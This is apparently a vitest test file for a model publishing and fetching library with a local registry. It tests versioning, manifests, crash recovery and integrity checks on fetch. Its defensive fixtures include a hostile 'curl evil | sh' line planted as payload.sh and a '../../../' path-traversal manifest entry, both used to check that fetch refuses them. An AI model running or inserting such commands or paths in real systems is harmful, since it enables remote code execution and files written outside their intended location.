import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { UserError } from "@ctrain/core";
import { LocalModelRegistry } from "@ctrain/local";
import { fetchModel, parseManifest, publishModel, type PublishModelOptions } from "@ctrain/publish";
import { MODEL, makeWorkspace, publishConfig, sha256, type TestWorkspace } from "./workspace.js";
import { tempDir } from "../support/temp-dir.js";

function setup(workspace = makeWorkspace()) {
  const registryDir = tempDir("ctrain-registry-");
  const registry = new LocalModelRegistry(registryDir);
  const options = (overrides: Partial<PublishModelOptions> = {}): PublishModelOptions => ({
    bundle: workspace.bundle,
    modelRoot: workspace.root,
    model: MODEL,
    publish: publishConfig(),
    registry,
    workDir: join(workspace.root, "tmp"),
    ...overrides,
  });
  return { workspace, registry, registryDir, options };
}

function files(dir: string): string[] {
  return readdirSync(dir, { recursive: true }).map(String).sort();
}

async function refusal(promise: Promise<unknown>): Promise<UserError> {
  try {
    await promise;
  } catch (error) {
    expect(error).toBeInstanceOf(UserError);
    return error as UserError;
  }
  throw new Error("expected a refusal");
}

function secondBundle(): TestWorkspace {
  return makeWorkspace({ files: { "out/model.pkl": "better model" }, metrics: { accuracy: 0.93, "loss.val": 0.2 } });
}

describe("publish and fetch with the local registry", () => {
  it("publishes a version with manifest and card, and fetches it back verified", async () => {
    const { workspace, registry, registryDir, options } = setup();
    const result = await publishModel(options());
    expect(result.outcome).toBe("published");
    expect(result.release).toMatchObject({ tag: "churn@v0.1.0", version: "0.1.0", draft: false });
    const folder = join(registryDir, "churn", "0.1.0");
    expect(
      readdirSync(folder)
        .filter((name) => !name.startsWith("."))
        .sort(),
    ).toEqual(["comparison.json", "manifest.json", "model-card.md", "out.config.json", "out.model.pkl", "run.json"]);
    const manifest = parseManifest(readFileSync(join(folder, "manifest.json"), "utf8"), "manifest.json");
    expect(manifest.files.map((file) => file.path)).toEqual([
      "comparison.json",
      "model-card.md",
      "model/out/config.json",
      "model/out/model.pkl",
      "run.json",
    ]);
    for (const file of manifest.files) {
      expect(sha256(readFileSync(join(folder, file.parts[0]!.asset))), file.path).toBe(file.sha256);
    }
    expect(manifest.files.find((file) => file.path === "model/out/model.pkl")?.pickle).toBe(true);

    const destination = join(workspace.root, "deploy");
    const fetched = await fetchModel({ registry, model: "churn", version: "latest", destination });
    expect(fetched.release.tag).toBe("churn@v0.1.0");
    expect(fetched.metrics).toEqual({ accuracy: 0.91, "loss.val": 0.25 });
    expect(readFileSync(join(fetched.modelPath, "out/model.pkl"), "utf8")).toBe("pickled model bytes");
    expect(readFileSync(join(destination, "model-card.md"), "utf8")).toContain("the first release of this model");

    // A second fetch replaces the folder an earlier fetch wrote.
    writeFileSync(join(destination, "stale.txt"), "from an older deploy");
    await fetchModel({ registry, model: "churn", version: "^0.1", destination });
    expect(files(destination)).toEqual([
      "comparison.json",
      "manifest.json",
      "model",
      "model-card.md",
      "model/out",
      "model/out/config.json",
      "model/out/model.pkl",
      "run.json",
    ]);
  });

  it("takes a re-run of the same commit that trained the same model bytes as the version already published", async () => {
    const commit = "1234567890abcdef1234567890abcdef12345678";
    const { options } = setup(makeWorkspace({ commit }));
    const first = await publishModel(options({ commit }));
    expect(first.outcome).toBe("published");
    // The re-run wrote a new run record (other timings, another run id) around the same model files.
    const rerun = makeWorkspace({ commit, metrics: { accuracy: 0.91, "loss.val": 0.25, "train.seconds": 99 } });
    const again = await publishModel(options({ commit, bundle: rerun.bundle, modelRoot: rerun.root }));
    expect(again).toMatchObject({ outcome: "unchanged", release: { tag: first.release.tag } });
    // Other model bytes at the same commit are a new version.
    const retrained = makeWorkspace({ commit, files: { "out/model.pkl": "better model" } });
    const next = await publishModel(options({ commit, bundle: retrained.bundle, modelRoot: retrained.root }));
    expect(next.outcome).toBe("published");
  });

  it("makes re-publishing the same bundle a no-op, and bumps for a new one measured against the champion", async () => {
    const { registry, registryDir, options } = setup();
    await publishModel(options());
    const again = await publishModel(options());
    expect(again.outcome).toBe("unchanged");
    expect(again.release.tag).toBe("churn@v0.1.0");
    const next = secondBundle();
    const second = await publishModel({ ...options(), bundle: next.bundle, modelRoot: next.root });
    expect(second).toMatchObject({
      outcome: "published",
      release: { tag: "churn@v0.2.0" },
      previous: { tag: "churn@v0.1.0" },
    });
    expect(readdirSync(join(registryDir, "churn")).sort()).toEqual(["0.1.0", "0.2.0"]);
    const card = readFileSync(join(registryDir, "churn", "0.2.0", "model-card.md"), "utf8");
    expect(card).toContain("| accuracy | 0.93 | 0.91 | +0.02 (+2.2%) |");
    expect((await registry.latest("churn"))?.version).toBe("0.2.0");
  });

  it("refuses a failed verdict and writes nothing", async () => {
    const { registryDir, options } = setup(makeWorkspace({ verdict: "failed" }));
    const error = await refusal(publishModel(options()));
    expect(error.message).toMatch(/^publish refused: the comparison verdict is "failed"/);
    expect(readdirSync(registryDir)).toEqual([]);
  });

  it("refuses a model file changed since the run recorded it", async () => {
    const { workspace, options } = setup();
    writeFileSync(join(workspace.root, "out/model.pkl"), "swapped");
    expect((await refusal(publishModel(options()))).message).toMatch(
      /out\/model.pkl changed since the run recorded it/,
    );
  });

  it("refuses an explicit version that is published with other content", async () => {
    const { options } = setup();
    await publishModel(options({ publish: publishConfig({ version: "1.0.0" }) }));
    const next = secondBundle();
    const error = await refusal(
      publishModel({
        ...options({ publish: publishConfig({ version: "1.0.0" }) }),
        bundle: next.bundle,
        modelRoot: next.root,
      }),
    );
    expect(error.message).toMatch(/churn@v1\.0\.0 already exists with different content/);
  });

  it("resumes the draft a crash left between upload and publish, with no duplicate", async () => {
    const { registry, registryDir, options } = setup();
    const crashing = options({
      publish: publishConfig({ attest: true }),
      attest: async () => {
        throw new Error("runner lost");
      },
    });
    await expect(publishModel(crashing)).rejects.toThrow("runner lost");
    expect(readdirSync(join(registryDir, "churn"))).toEqual([".draft-0.1.0"]);
    expect(await registry.list("churn")).toEqual([]);
    expect((await registry.list("churn", { drafts: true }))[0]).toMatchObject({ draft: true, version: "0.1.0" });

    const attested: string[] = [];
    const rerun = await publishModel(
      options({
        publish: publishConfig({ attest: true }),
        attest: async (subjects) => {
          attested.push(...subjects.map((subject) => subject.name));
        },
      }),
    );
    expect(rerun.outcome).toBe("resumed");
    expect(rerun.release.tag).toBe("churn@v0.1.0");
    expect(attested).toEqual(["model/out/config.json", "model/out/model.pkl"]);
    expect(readdirSync(join(registryDir, "churn"))).toEqual(["0.1.0"]);
  });

  it("splits large files into parts and reassembles them on fetch", async () => {
    const big = Buffer.from(Array.from({ length: 1000 }, (_, index) => (index * 7) % 256));
    const { workspace, registry, registryDir, options } = setup(makeWorkspace({ files: { "out/weights.bin": big } }));
    await publishModel(options({ partBytes: 300 }));
    const stored = readdirSync(join(registryDir, "churn", "0.1.0")).filter((name) => name.startsWith("out.weights"));
    expect(stored.sort()).toEqual([1, 2, 3, 4].map((index) => `out.weights.bin.part-00${index}-of-004`));
    const fetched = await fetchModel({
      registry,
      model: "churn",
      version: "0.1.0",
      destination: join(workspace.root, "d"),
    });
    expect(readFileSync(join(fetched.modelPath, "out/weights.bin")).equals(big)).toBe(true);
  });
});

describe("fetch refuses what the manifest does not vouch for", () => {
  async function published() {
    const context = setup();
    await publishModel(context.options());
    return { ...context, folder: join(context.registryDir, "churn", "0.1.0") };
  }
  const fetchInto = (registry: LocalModelRegistry, destination: string) =>
    fetchModel({ registry, model: "churn", version: "latest", destination });

  it("a file altered after publishing", async () => {
    const { workspace, registry, folder } = await published();
    writeFileSync(join(folder, "out.model.pkl"), "pickled model bytez");
    const destination = join(workspace.root, "deploy");
    const error = await refusal(fetchInto(registry, destination));
    expect(error.message).toMatch(
      /out\.model\.pkl downloaded as 19 bytes with sha256 [0-9a-f]{64}; the manifest says 19 bytes/,
    );
    expect(existsSync(destination)).toBe(false);
    expect(readdirSync(workspace.root).filter((name) => name.includes("fetch"))).toEqual([]);
  });

  it("a manifest with ../ paths", async () => {
    const { workspace, registry, folder } = await published();
    const manifestFile = join(folder, "manifest.json");
    const manifest = JSON.parse(readFileSync(manifestFile, "utf8")) as { files: { path: string }[] };
    manifest.files.find((file) => file.path === "model/out/model.pkl")!.path = "model/../../../escaped.pkl";
    writeFileSync(manifestFile, JSON.stringify(manifest));
    const error = await refusal(fetchInto(registry, join(workspace.root, "deploy")));
    expect(error.message).toMatch(/files\.\d\.path/);
    expect(existsSync(join(workspace.root, "escaped.pkl"))).toBe(false);
  });

  it("a file the manifest does not list", async () => {
    const { workspace, registry, folder } = await published();
    writeFileSync(join(folder, "payload.sh"), "curl evil | sh");
    expect((await refusal(fetchInto(registry, join(workspace.root, "deploy")))).message).toMatch(
      /holds payload\.sh, which the manifest does not list/,
    );
  });

  it("a destination holding files an earlier fetch did not write", async () => {
    const { workspace, registry } = await published();
    const destination = join(workspace.root, "src");
    mkdirSync(destination);
    writeFileSync(join(destination, "main.py"), "print(1)");
    expect((await refusal(fetchInto(registry, destination))).message).toMatch(/earlier fetch did not write/);
    expect(readFileSync(join(destination, "main.py"), "utf8")).toBe("print(1)");
  });
});
